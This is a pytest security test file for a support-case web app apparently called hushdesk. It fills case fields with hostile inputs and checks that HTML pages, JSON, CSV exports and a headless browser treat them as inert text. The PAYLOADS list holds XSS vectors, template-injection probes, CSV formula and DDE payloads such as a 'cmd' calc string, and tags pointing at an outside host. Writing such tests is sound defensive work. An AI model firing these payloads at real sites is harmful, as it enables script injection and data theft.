"""Cases whose every field means harm: on no page, in no twin and in no browser does any of it become more than text."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import re
import socket
import threading
import time
from html.parser import HTMLParser
from importlib.resources import files
from pathlib import Path

import pytest
import uvicorn

from hushdesk.access import Permission, Role
from hushdesk.cases import SEALED_SCHEMA
from hushdesk.web._guard import PERMISSIONS, Open

RAN = "window.hushran=1;document.title='hushran'"
PAYLOADS = (
    f"<script>{RAN}</script><hushtag hushattr=1>",
    f'"><img src=x onerror="{RAN}" hushattr><hushtag>',
    f"' onmouseover='{RAN}' autofocus onfocus='{RAN}' hushattr='",
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RAN}\"><hushtag/><script>{RAN}</script><a href='javascript:{RAN}'>x</a></svg>",
    f"</textarea></title></style></script></template><hushtag><script>{RAN}</script>",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}${7*7}#{7*7}<%= 7*7 %>{{config}}{{identity.csrf}}",
    "<iframe srcdoc='<script>parent.hushran=1</script>' hushattr></iframe><object data='http://198.51.100.7/x'></object>",
    "<link rel=stylesheet href=//198.51.100.7/x><meta http-equiv=refresh content='0;url=http://198.51.100.7/'><base href=//198.51.100.7/>",
    "<form action=http://198.51.100.7/ hushattr><input name=token><button formaction=//198.51.100.7>x</button></form>",
    "javascript:window.hushran=1//<a href=javascript:window.hushran=1 hushattr>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=window.hushran=1 hushattr>--><!-- hushtag",
    "<![CDATA[<hushtag>]]>&lt;hushtag&gt;&#60;hushtag&#62;&NewLine;<hushtag/hushattr>\x0c<hushtag\x0bhushattr>",
    "\u202egnp.exe\u2066\u2067isolated\u202b مرحبا \u200e\u200f\u2028\u2029\ufeff\u200b\x00\x08\x1b[31m\x7f\x9b",
    "W" * 20_000 + "<hushtag hushattr>",
    '=HYPERLINK("http://198.51.100.7/","x")', "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)*cmd|'x'!A0", "\t=1+1", "\r\n=1+1", "＝1+1", "|cmd",
    "%0A=1+1", " \u00a0=1+1", ";=1+1", ',=1+1",=1+1', '"=1+1', "\u200b=1+1", "\ufeff@x",
)  # fmt: skip
ALSO_TIMES = {"opened_at", "updated_at", "closed_at", "first_reply_at", "content_mac", "load_id", "case_id"}


def cases(make) -> list[dict[str, object]]:
    """For each payload the cases of six persons, so that no facet hides it, with the payload in every field of text."""
    found = []
    plain = make(persons=120, seed=5)
    for number, payload in enumerate(PAYLOADS):
        for person in range(6):
            row = dict(plain[len(found)])
            customer = row["customer"]
            for name in set(SEALED_SCHEMA.names) - ALSO_TIMES:
                kind = str(SEALED_SCHEMA.field(name).type)
                if name.startswith("messages."):
                    row[name] = [payload] if "timestamp" not in kind else [row["opened_at"]]
                else:
                    row[name] = [payload] if kind.startswith("list") else payload
            row["case_id"] = f"H5SH{number:06d}{person:06d}"
            if person:
                row["customer"] = customer
            found.append(row)
    return found


@pytest.fixture(scope="module")
def house(houses, tmp_path_factory):
    stored = cases(houses.made.made_rows)
    with houses.opened(tmp_path_factory.mktemp("hostile"), whole=False, stored=stored) as made:
        yield made


class Page(HTMLParser):
    """Elements and attributes as a browser's parser would find them, near enough."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.values: list[tuple[str, str, str]] = []
        self.comments: list[str] = []
        self.text: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.add(tag)
        for name, value in attrs:
            self.attributes.add((tag, name))
            self.values.append((tag, name, value or ""))

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_data(self, data):
        self.text.append(data)

    def unknown_decl(self, data):
        self.comments.append(data)


def ours() -> tuple[set[str], set[str]]:
    """Elements and attributes that the templates write."""
    sources = [each.read_text("utf-8") for each in files("hushdesk.web").joinpath("templates").iterdir()]
    elements = {name.lower() for text in sources for name in re.findall(r"<([A-Za-z][\w-]*)", text)}
    attributes = {
        name.lower()
        for text in sources
        for name in re.findall(r"[\s\"'}]([a-zA-Z][\w-]*)(?==|\s|>|\{)", text)
    }
    return elements, attributes


ELEMENTS, ATTRIBUTES = ours()


def check(text: str, where: str) -> Page:
    page = Page(text)
    assert page.elements <= ELEMENTS, (where, page.elements - ELEMENTS)
    assert {name for _, name in page.attributes} <= ATTRIBUTES, (where, page.attributes)
    assert not [
        each
        for each in page.attributes
        if each[1].startswith("on") or each[1] in {"style", "srcdoc", "formaction"}
    ], where
    assert not page.comments, (where, page.comments[:3])
    for tag, name, value in page.values:
        if name in {"href", "src", "action", "data-url", "xlink:href"}:
            assert re.match(r"/(?!/)|#|\?", value) or (tag == "a" and value.startswith("https://")), (
                where,
                tag,
                name,
                value[:80],
            )
        if (tag, name) in {("script", "src"), ("link", "href"), ("img", "src")}:
            assert value.startswith("/static/"), (where, value[:80])
    # Calculated by nobody, and no control character is left to act.
    assert "4949" not in text, where
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f]", text), (
        where,
        re.findall(r".{20}[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f]", text)[:3],
    )
    return page


ROLES = ("lead", "operator", "privacy-officer", "admin")


def test_every_page_shows_it_as_text_and_nothing_else(house, houses):
    headers = {role: house.session(role) for role in ROLES}
    shown = ""
    asked = 0
    for method, path in houses.walk(house.app):
        rule = PERMISSIONS[method, path]
        if method != "GET" or path.endswith((".json", ".csv")) or path.startswith("/static"):
            continue
        role = next(
            role for role in ROLES if not isinstance(rule, Permission) or rule in Role(role).permissions
        )
        wanted = (
            [f"H5SH{number:06d}000000" for number in range(len(PAYLOADS))] if "{case_id}" in path else [""]
        )
        for case in wanted:
            answer = house.ask(
                "GET",
                houses.fill(house, path, **({"case_id": case} if case else {})),
                {} if isinstance(rule, Open) else headers[role],
            )
            asked += 1
            if answer.headers.get("content-type", "").startswith("text/html"):
                shown += answer.text
                check(answer.text, answer.request.url.path)
    for page in range(1, 1 + -(-len(house.rows) // 20)):
        answer = house.ask("GET", "/cases", headers["lead"], params={"page": str(page)})
        shown += answer.text
        check(answer.text, f"page {page}")
    assert asked > 20
    # It was there, and was written as text: each of them.
    for number, payload in enumerate(PAYLOADS):
        seen = "".join(re.findall(r"[A-Za-z0-9]+", payload))[:12]
        text = "".join(re.findall(r"[A-Za-z0-9]+", "".join(Page(shown).text) if number == 0 else ""))
        assert number or seen in text


@pytest.mark.parametrize(
    "number", [n if n in {0, 1, 5} else pytest.param(n, marks=pytest.mark.slow) for n in range(14)]
)
def test_what_is_asked_for_and_chosen_is_text_too(house, number):
    headers, payload = house.session("lead"), PAYLOADS[number][:190]
    for key in ("q", "f.product", "f.tag", "f.category", "from", "sort", "page", "at", "f.<hushtag>"):
        for path in ("/cases", f"/cases/H5SH{number:06d}000000"):
            answer = house.ask("GET", path, headers, params={key: payload, "f.channel": payload})
            assert answer.status_code in {200, 400, 403}
            check(answer.text, f"{path} {key}")
    for path in ("/sign-in", "/nothing"):
        check(house.ask("GET", path, params={"next": "/" + payload, "name": payload}).text, path)
    check(house.ask("GET", f"/{payload.replace('?', '').replace('#', '')[:60]}").text, "no such page")


FORMULA = re.compile(r"[\s\u00a0\u200b\ufeff\u3000]*[=+\-@＝＋－＠|%\t\r\n]")


def test_no_cell_of_an_export_is_a_formula(house):
    answer = house.ask("GET", "/cases.csv", house.session("lead"))
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment; ")
    assert answer.headers["x-content-type-options"] == "nosniff"
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), strict=True))
    assert len(rows) == len(house.rows) + 1
    assert len({len(row) for row in rows}) == 1
    guarded = 0
    for row in rows:
        for name, cell in zip(rows[0], row, strict=True):
            assert not FORMULA.match(cell), (name, cell[:40])
            guarded += cell.startswith("'")
    # Every column of text had some, and each was disarmed.
    assert guarded > 14 * 6 * 8
    columns = {name for row in rows for name, cell in zip(rows[0], row, strict=True) if cell.startswith("'=")}
    assert len(columns) >= 14, columns


def test_the_twin_is_data_and_says_so(house):
    headers = house.session("lead")
    for number, payload in enumerate(PAYLOADS):
        answer = house.ask("GET", f"/cases/H5SH{number:06d}000000.json", headers)
        assert answer.headers["content-type"] == "application/json"
        assert answer.headers["x-content-type-options"] == "nosniff"
        case = json.loads(answer.content)["case"]
        assert case["subject"] == case["product"] == case["messages"][0]["text"] == payload
    answer = house.ask("GET", "/cases.json", headers, params={"q": "hushtag"})
    assert answer.headers["content-type"] == "application/json"
    assert json.loads(answer.content)["found"]["total"] >= 6


def browser_of(name: str) -> object:
    path = Path(__file__).parents[1] / "browser" / "conftest.py"
    spec = importlib.util.spec_from_file_location("hushdesk_browser_conftest", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return getattr(module, name)


WATCH = """
window.hushseen = [];
document.addEventListener('securitypolicyviolation', event => window.hushseen.push(event.violatedDirective + ' ' + event.blockedURI));
"""


@pytest.mark.browser
def test_in_a_browser_nothing_of_it_runs_asks_or_opens(house, houses):
    place = browser_of("CHROMIUM")
    if not place.exists():
        pytest.skip(f"there is no browser at {place}; apt-get install chromium, or set HUSHDESK_CHROMIUM")
    sync_api = pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        server = uvicorn.Server(
            uvicorn.Config(house.app, log_config=None, access_log=False, lifespan="off", ws="none")
        )
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]})
        thread.start()
        while not server.started:
            time.sleep(0.01)
        address = f"http://127.0.0.1:{listener.getsockname()[1]}"
        try:
            with sync_api.sync_playwright() as playwright:
                browser = playwright.chromium.launch(executable_path=str(place), args=browser_of("ARGS"))
                visit(house, browser, address)
                browser.close()
        finally:
            server.should_exit = True
            thread.join()


def visit(house, browser, address: str) -> None:
    wrong: list[str] = []
    context = browser.new_context(base_url=address)
    context.add_init_script(WATCH)
    context.add_cookies([{"name": "hushdesk", "value": house.secret("privacy-officer"), "url": address}])
    page = context.new_page()
    page.on("dialog", lambda dialog: (wrong.append("dialog"), dialog.dismiss()))
    page.on("popup", lambda _: wrong.append("popup"))
    page.on("pageerror", lambda error: wrong.append(f"error {error}"))
    page.on(
        "console", lambda said: said.type == "error" and "404" not in said.text and wrong.append(said.text)
    )
    page.on(
        "request",
        lambda request: request.url.startswith(address) or wrong.append(f"asked {request.url[:80]}"),
    )
    paths = ["/cases", "/cases?q=hushtag", "/cases?page=3", "/cases?f.product=%3Cscript%3E"]
    paths += [f"/cases/H5SH{number:06d}000000?at=1" for number in range(14)]
    paths += ["/record/case/H5SH000000000000"] if ("GET", "/record/case/{case_id}") in PERMISSIONS else []
    for path in paths:
        page.goto(path)
        assert page.evaluate("window.hushran") is None, path
        assert "hushran" not in page.title() or path.startswith("/cases/"), path
        assert (
            page.evaluate(
                "document.querySelectorAll('hushtag, [hushattr], iframe, object, embed, base, svg script').length"
            )
            == 0
        ), path
        assert page.evaluate("window.hushseen") == [], path
        assert page.url == address + path
    assert wrong == []
    context.close()
